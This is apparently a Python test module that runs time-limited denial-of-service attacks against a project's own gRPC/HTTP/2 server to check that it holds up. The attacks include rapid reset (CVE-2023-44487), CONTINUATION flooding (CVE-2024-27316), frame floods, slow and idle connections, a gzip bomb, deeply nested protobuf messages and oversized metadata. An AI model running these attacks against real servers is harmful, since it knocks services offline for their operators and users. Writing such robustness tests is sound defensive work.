"""Attacks on a server's transport, as functions of a target and a number of repetitions.

Each attack is limited in time. Some attacks also assert the statuses that the target returns.
"""

from __future__ import annotations

import socket
import time
import zlib
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from typing import TYPE_CHECKING, NamedTuple

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from solo60.example.v1.echo_pb2 import EchoManyRequest, EchoRequest
from tests.attack.raw_peer import MAX_FRAME_BYTES, PREFACE, RawPeer

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from tests.attack.target import Target

ECHO = "/solo60.example.v1.EchoService/Echo"
ECHO_MANY = "/solo60.example.v1.EchoService/EchoMany"
CANCEL = 8
FRAME_BATCH = 100
CONCURRENT_CONNECTIONS = 20
MAX_INCREMENT = 2**31 - 1
MEGABYTE = 1_000_000
# Limits of the server.
MAX_MESSAGE_BYTES = 1024 * 1024
MAX_METADATA_BYTES = 8 * 1024
MAX_DURATION_S = 45.0


class Attack(NamedTuple):
    """Attack with its numbers of repetitions in short and long tests."""

    run: Callable[[Target, int], None]
    short: int
    long: int


def rapid_reset(target: Target, streams: int) -> None:
    """Start calls and reset each one immediately (CVE-2023-44487)."""
    with _peers(target) as peers:
        while streams > 0 and peers.has_time:
            peer = peers.current()
            for _ in range(FRAME_BATCH):
                stream = peer.new_stream()
                headers = peer.headers(stream, ECHO)
                headers.flags.add("END_STREAM")
                peer.send(headers, RstStreamFrame(stream, CANCEL))
            streams -= FRAME_BATCH


def rapid_reset_from_many(target: Target, streams: int) -> None:
    """Run rapid reset on many connections at once, which together exceed the limits of one connection."""
    with ThreadPoolExecutor(CONCURRENT_CONNECTIONS) as threads:
        list(
            threads.map(lambda _: rapid_reset(target, streams // CONCURRENT_CONNECTIONS), range(CONCURRENT_CONNECTIONS))
        )


def reset_of_complete_calls(target: Target, streams: int) -> None:
    """Run rapid reset with calls that include their message, so that handlers may start."""
    message = EchoRequest(text="hi").SerializeToString()
    with _peers(target) as peers:
        while streams > 0 and peers.has_time:
            peer = peers.current()
            stream = peer.new_stream()
            peer.send(peer.headers(stream, ECHO))
            peer.send_message(stream, message)
            peer.send(RstStreamFrame(stream, CANCEL))
            streams -= 1


def flood(frame: Frame) -> Callable[[Target, int], None]:
    """Return an attack that repeats one frame and never reads the answers."""

    def run(target: Target, frames: int) -> None:
        with _peers(target) as peers:
            while frames > 0 and peers.has_time:
                peers.current().send(*[frame] * FRAME_BATCH, reading=False)
                frames -= FRAME_BATCH

    return run


def continuation_flood(target: Target, megabytes: int) -> None:
    """Send endless CONTINUATION frames (CVE-2024-27316)."""
    # Encoded once and sent repeatedly, because the encoder could replace known headers by short references.
    block = Encoder().encode([(f"x-{number}", "v" * 1000) for number in range(15)], huffman=False)
    with _peers(target) as peers:
        sent = 0
        while sent < megabytes * MEGABYTE and peers.has_time:
            peer = peers.current()
            stream = peer.new_stream()
            peer.send(HeadersFrame(stream, peer.header_block(ECHO)))
            while not peer.is_closed and sent < megabytes * MEGABYTE and peers.has_time:
                peer.send(*[ContinuationFrame(stream, block)] * 10)
                sent += 10 * len(block)


def window_overflow(target: Target, times: int) -> None:
    """Increase the flow-control window of a connection or a stream beyond its maximum."""
    for number in range(times):
        with RawPeer(target) as peer:
            stream = peer.new_stream() if number % 2 else 0
            if stream:
                peer.send(peer.headers(stream, ECHO))
            peer.send(*[WindowUpdateFrame(stream, MAX_INCREMENT)] * 2)
            peer.read_for(0.01)


def priorities(target: Target, frames: int) -> None:
    """Prioritise nonexistent streams in ever deeper dependency trees."""
    with _peers(target) as peers:
        while frames > 0 and peers.has_time:
            peer = peers.current()
            streams = [peer.new_stream() for _ in range(FRAME_BATCH)]
            peer.send(*[PriorityFrame(stream, depends_on=max(stream - 2, 0), stream_weight=255) for stream in streams])
            frames -= FRAME_BATCH


def send_byte_by_byte(target: Target, connections: int) -> None:
    """Send calls one byte at a time, each on its own connection."""
    peers = [RawPeer(target, preface=False) for _ in range(connections)]
    for peer in peers:
        stream = peer.new_stream()
        headers = peer.headers(stream, ECHO)
        headers.flags.add("END_STREAM")
        for byte in PREFACE + SettingsFrame(0).serialize() + headers.serialize():
            peer.send_bytes(bytes([byte]))
    for peer in peers:
        with peer:
            peer.read_for(0.01)


def idle_connections(target: Target, connections: int) -> None:
    """Hold connections open without sending anything, for a time that grows with their number."""
    idle = [socket.create_connection(("127.0.0.1", target.port)) for _ in range(connections)]
    time.sleep(connections / 200)
    for each in idle:
        each.close()


def zip_bomb(target: Target, times: int) -> None:
    """Send small compressed messages of 200 MB of zeros each."""
    packer = zlib.compressobj(wbits=31)
    bomb = b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(200)) + packer.flush()
    for _ in range(times):
        assert _status_of(target, bomb, ("grpc-encoding", "gzip")) != "0"


def deep_nesting(target: Target, times: int) -> None:
    """Send groups and messages nested up to 10,000 levels deep."""
    levels = 10_000
    group_start, group_end = b"\x7b", b"\x7c"
    message = b""
    for _ in range(levels):
        message = b"\x1a" + _varint(len(message)) + message
        if len(message) > MAX_FRAME_BYTES * 3:
            break
    for _ in range(times):
        assert _status_of(target, group_start * levels + group_end * levels) == "3"
        assert _status_of(target, message) != "0"


def repeated_fields(target: Target, times: int) -> None:
    """Repeat a field a million times, and up to the size of the largest message."""
    empty_period = b"\x1a\x00"
    for _ in range(times):
        assert _status_of(target, empty_period * 1_000_000) != "0"
        assert _status_of(target, empty_period * (MAX_MESSAGE_BYTES // 2 - 100)) == "3"


def huge_any(target: Target, times: int) -> None:
    """Send an Any of almost the largest size in an unknown field, and one beyond that size."""
    type_url = b"\x0a\x28type.googleapis.com/solo60.session.v1.X01"
    for size in (MAX_MESSAGE_BYTES - 200, 3 * MAX_MESSAGE_BYTES):
        packed = type_url + b"\x12" + _varint(size) + b"\xff" * size
        message = EchoRequest(text="hi").SerializeToString() + b"\x7a" + _varint(len(packed)) + packed
        for _ in range(times):
            status = _status_of(target, message)
            assert status == "0" if size < MAX_MESSAGE_BYTES else status != "0"


def large_metadata(target: Target, times: int) -> None:
    """Send metadata of many sizes, in one header or in many."""
    for number in range(times):
        for size in (4_000, 9_000, 15_000, 64_000, MEGABYTE):
            extra = [("x-large", "v" * size)] if number % 2 else [(f"x-{n}", "v" * 10) for n in range(size // 50)]
            with RawPeer(target) as peer:
                stream = peer.new_stream()
                peer.send_headers(stream, peer.header_block(ECHO, extra))
                peer.send_message(stream, EchoRequest(text="hi").SerializeToString())
                peer.read_verdict()
                assert (size <= MAX_METADATA_BYTES) == (peer.statuses["0"] == 1)


def garbage(target: Target, times: int) -> None:
    """Send other protocols, malformed frames and incomplete prefaces."""
    client_hello = bytes.fromhex("16030100500100004c0303") + bytes(69)
    bad_frames = PREFACE + b"\xff\xff\xff\x00\xff\x7f\xff\xff\xff" * 100
    for _ in range(times):
        for payload in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", client_hello, b"\x00" * 5_000, bad_frames, PREFACE[:10]):
            with RawPeer(target, preface=False) as peer:
                peer.send_bytes(payload)
                peer.read_for(0.01)


def slow_reader(target: Target, streams: int) -> None:
    """Request streams of answers with a flow-control window of 0."""
    request = EchoManyRequest(text="v" * 1000, repeat=1000).SerializeToString()
    with RawPeer(target) as peer:
        peer.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}))
        for _ in range(streams):
            stream = peer.new_stream()
            peer.send(peer.headers(stream, ECHO_MANY))
            peer.send_message(stream, request)
        peer.read_for(1.0)


ATTACKS = {
    "rapid reset": Attack(rapid_reset, 2_000, 50_000),
    "rapid reset from many": Attack(rapid_reset_from_many, 5_000, 50_000),
    "whole calls reset": Attack(reset_of_complete_calls, 1_000, 20_000),
    "pings": Attack(flood(PingFrame(0, b"12345678")), 2_000, 500_000),
    "settings": Attack(flood(SettingsFrame(0, settings={SettingsFrame.MAX_FRAME_SIZE: 20_000})), 2_000, 500_000),
    "continuations": Attack(continuation_flood, 10, 216),
    "window overflow": Attack(window_overflow, 10, 200),
    "priorities": Attack(priorities, 2_000, 200_000),
    "send_byte_by_byte": Attack(send_byte_by_byte, 3, 100),
    "idle connections": Attack(idle_connections, 100, 2_000),
    "zip bomb": Attack(zip_bomb, 1, 20),
    "deep nesting": Attack(deep_nesting, 2, 50),
    "repeated fields": Attack(repeated_fields, 1, 20),
    "huge Any": Attack(huge_any, 1, 20),
    "large metadata": Attack(large_metadata, 2, 10),
    "garbage": Attack(garbage, 5, 100),
    "slow reader": Attack(slow_reader, 50, 100),
}


class _Peers:
    """Sequence of peers, each used until the target closes its connection."""

    def __init__(self, target: Target) -> None:
        self._target = target
        self._peer: RawPeer | None = None
        self._until = time.monotonic() + MAX_DURATION_S

    @property
    def has_time(self) -> bool:
        """Whether the attack's time limit is in the future."""
        return time.monotonic() < self._until

    def current(self) -> RawPeer:
        """Return the current peer, or a new one if the target has closed the current one."""
        if self._peer is None or self._peer.is_closed:
            self.close()
            self._peer = RawPeer(self._target)
        return self._peer

    def close(self) -> None:
        """Close the current peer."""
        if self._peer is not None:
            self._peer.close()


@contextmanager
def _peers(target: Target) -> Iterator[_Peers]:
    peers = _Peers(target)
    try:
        yield peers
    finally:
        peers.close()


def _status_of(target: Target, message: bytes, encoding: tuple[str, str] | None = None) -> str:
    """Call Echo with these bytes; return the gRPC status, or "" if the target has ended the stream or connection."""
    with RawPeer(target) as peer:
        stream = peer.new_stream()
        peer.send(peer.headers(stream, ECHO, [encoding] if encoding else []))
        peer.send_message(stream, message, compressed=encoding is not None)
        peer.read_verdict()
        return next(iter(peer.statuses), "")


def _varint(number: int) -> bytes:
    low, rest = number & 0x7F, number >> 7
    return bytes([low | 0x80]) + _varint(rest) if rest else bytes([low])
